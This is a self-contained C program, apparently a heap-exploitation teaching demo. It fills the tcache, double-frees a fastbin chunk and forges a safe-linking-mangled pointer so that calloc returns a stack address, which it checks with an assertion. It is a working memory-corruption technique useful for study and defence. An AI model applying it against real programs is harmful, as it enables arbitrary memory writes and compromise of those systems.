/* The same, and its link leads to the stack: calloc hands out a local variable. */
#include <stdio.h>
#include <stdlib.h>
#include <assert.h>
int main(void) {
    void *ptrs[7];
    for (int i = 0; i < 7; i++) ptrs[i] = malloc(8);
    for (int i = 0; i < 7; i++) free(ptrs[i]);
    unsigned long stack_var[4] __attribute__((aligned(0x10)));
    int *a = calloc(1, 8), *b = calloc(1, 8), *c = calloc(1, 8);
    free(a);
    free(b);
    free(a);
    unsigned long *d = calloc(1, 8);
    calloc(1, 8);
    stack_var[1] = 0x20;
    unsigned long ptr = (unsigned long)stack_var;
    unsigned long addr = (unsigned long)d;
    *d = (addr >> 12) ^ ptr;
    calloc(1, 8);
    void *p = calloc(1, 8);
    assert((unsigned long)p == (unsigned long)stack_var + 0x10);
}
